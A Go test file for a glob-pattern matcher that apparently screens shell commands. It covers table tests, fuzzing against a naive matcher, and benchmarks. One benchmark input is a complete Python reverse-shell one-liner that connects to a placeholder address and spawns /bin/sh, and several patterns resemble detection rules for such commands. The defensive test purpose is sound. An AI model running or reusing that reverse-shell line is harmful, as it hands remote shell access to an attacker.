package predicate

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// glob reads * and ? as wildcards and ~ as a dash; tests need no escapes.
func glob(s string) []Part {
	var parts []Part
	for s != "" {
		i := strings.IndexAny(s, "*?~")
		if i < 0 {
			return append(parts, Part{Literal, s})
		}
		parts = append(parts, Part{Literal, s[:i]})
		parts = append(parts, Part{Kind: map[byte]Kind{'*': Run, '?': One, '~': Dash}[s[i]]})
		s = s[i+1:]
	}
	return parts
}

func TestMatch(t *testing.T) {
	tests := []struct {
		pattern         string
		cased           bool
		match, mismatch []string
	}{
		{pattern: "", match: []string{""}, mismatch: []string{"a", "\x00"}},
		{pattern: "*", match: []string{"", "a/b\nc", "\xff"}},
		{pattern: "?", match: []string{"a", "é", "\xff", "\n"}, mismatch: []string{"", "ab", "\xff\xfe"}},
		{pattern: "*??", match: []string{"ab", "日本"}, mismatch: []string{"日", "a"}},
		{pattern: "Python", match: []string{"python", "PYTHON"}, mismatch: []string{"python3", "/python", "pytho"}},
		{pattern: "Python", cased: true, match: []string{"Python"}, mismatch: []string{"python"}},
		{pattern: "*/python", match: []string{"/usr/bin/PYTHON", "/python"}, mismatch: []string{"python", "/python3"}},
		{pattern: "/tmp/*", match: []string{"/tmp/", "/TMP/x/y"}, mismatch: []string{"/tmp", "/var/tmp/"}},
		{pattern: "*socket*", match: []string{"import Socket", "ſocket", "soc\u212aet"}, mismatch: []string{"socke", "so cket"}},
		{pattern: "*socket*", cased: true, match: []string{"a socket"}, mismatch: []string{"Socket", "ſocket"}},
		{pattern: "*ÄRGER*", match: []string{"großer ärger"}, mismatch: []string{"arger", "\xc4rger"}},
		{pattern: "*a*b*c", match: []string{"abc", "AxBxC", "aabbcc"}, mismatch: []string{"ab", "acb", "abcd"}},
		{pattern: "a*b", match: []string{"ab", "A\xffB"}, mismatch: []string{"a", "b", "ba", "abc"}},
		{pattern: "aba*aba", match: []string{"abaaba"}, mismatch: []string{"aba", "ababa"}},
		{pattern: "*ask*risk*", match: []string{"a\u017fk, riſ\u212a"}, mismatch: []string{"risk ask"}},
		{pattern: "*é*è*", match: []string{"Éè"}, mismatch: []string{"èé", "\xc3\xa8"}},
		{pattern: "*zb*", match: []string{strings.Repeat("Zz", 50) + "zB"}, mismatch: []string{strings.Repeat("Zz", 50)}},
		{pattern: "a?c*", match: []string{"abc", "aéc", "a\xffcd"}, mismatch: []string{"ac", "abbc"}},
		{pattern: "*\xa9*", cased: true, match: []string{"\xa9", "x\xa9"}, mismatch: []string{"é", ""}},
		{pattern: "*\xc3", match: []string{"x\xc3"}, mismatch: []string{"x\xe3", "xã"}},
		{pattern: "\ufffd", match: []string{"\ufffd"}, mismatch: []string{"\xff"}},
		{pattern: "*~c*", match: []string{"x -c", "/c", "–C", "a—c", "―c"}, mismatch: []string{"c", "_c", "-\xffc"}},
	}
	for _, tt := range tests {
		p := Compile(glob(tt.pattern), !tt.cased)
		for _, s := range tt.match {
			if !p.Match(s) {
				t.Errorf("Compile(%q, cased %v).Match(%q) = false, want true", tt.pattern, tt.cased, s)
			}
		}
		for _, s := range tt.mismatch {
			if p.Match(s) {
				t.Errorf("Compile(%q, cased %v).Match(%q) = true, want false", tt.pattern, tt.cased, s)
			}
		}
	}
}

// TestQuadratic would not end in this century if runs were tried in all combinations.
func TestQuadratic(t *testing.T) {
	p := Compile(glob(strings.Repeat("*a", 30)+"*b"), true)
	if p.Match(strings.Repeat("a", 4000)) {
		t.Error("matched without a b")
	}
}

func FuzzMatch(f *testing.F) {
	f.Add("/tmp/*.b64", "/tmp/x.b64", true)
	f.Add("*so?ket~", "my ſocket-", true)
	f.Add("\xc3*", "\xc3\xa9", false)
	f.Add("*\u212a", "k", true)
	f.Fuzz(func(t *testing.T, pattern, s string, fold bool) {
		if len(pattern)*len(s) > 1<<16 {
			return
		}
		parts := glob(pattern)
		p := Compile(parts, fold)
		got, want := p.Match(s), naive(parts, s, fold)
		if got != want {
			t.Errorf("Compile(%q, %v).Match(%q) = %v, want %v", pattern, fold, s, got, want)
		}
		needles := p.Literals()
		if !got || Folds(s) || len(needles) == 0 {
			return
		}
		if found := CompileLiterals(needles).Find(nil, s); len(found) != len(needles) {
			t.Errorf("%q matches %q, which has not all of %v", pattern, s, needles)
		}
	})
}

// naive fills a table: reach[i] says whether the pattern so far can end after i units of s.
func naive(parts []Part, s string, fold bool) bool {
	us := split(s)
	reach := make([]bool, len(us)+1)
	reach[0] = true
	for _, part := range parts {
		if part.Kind == Run {
			for i := range us {
				reach[i+1] = reach[i+1] || reach[i]
			}
			continue
		}
		tests := []string{""}
		if part.Kind == Literal {
			tests = split(part.Text)
		}
		for _, test := range tests {
			next := make([]bool, len(us)+1)
			for i, u := range us {
				next[i+1] = reach[i] && naiveUnit(part.Kind, test, u, fold)
			}
			reach = next
		}
	}
	return reach[len(us)]
}

func naiveUnit(k Kind, test, u string, fold bool) bool {
	switch {
	case k == One:
		return true
	case k == Dash:
		return strings.Contains("-/–—―", u) && utf8.ValidString(u)
	case fold && utf8.ValidString(test) && utf8.ValidString(u):
		return strings.EqualFold(test, u)
	}
	return test == u
}

func split(s string) (units []string) {
	for s != "" {
		_, n := utf8.DecodeRuneInString(s)
		units, s = append(units, s[:n]), s[n:]
	}
	return units
}

var commandLine = "python3 -c import os,pty,socket;s=socket.socket();s.connect((\"192.0.2.7\",4242));" +
	"[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")"

// BenchmarkMatchLong asks about what shells are given to run: kilobytes.
func BenchmarkMatchLong(b *testing.B) {
	script := strings.Repeat("for f in *.go; do gofmt -l \"$f\" | sed 's/^/unformatted → /'; done\n", 60)
	for _, pattern := range []string{"*--encode*", "*import*pty*run*", "*for*xyz*", "* -c * python*"} {
		b.Run(pattern, func(b *testing.B) {
			p := Compile(glob(pattern), true)
			b.SetBytes(int64(len(script)))
			b.ReportAllocs()
			for b.Loop() {
				p.Match(script)
			}
		})
	}
}

func BenchmarkMatch(b *testing.B) {
	for _, pattern := range []string{"/usr/bin/python", "/usr/*", "*/sh\")", "*--encode*", "*import*pty*run*", "*zürich*"} {
		b.Run(pattern, func(b *testing.B) {
			p := Compile(glob(pattern), true)
			b.ReportAllocs()
			for b.Loop() {
				p.Match(commandLine)
			}
		})
	}
}
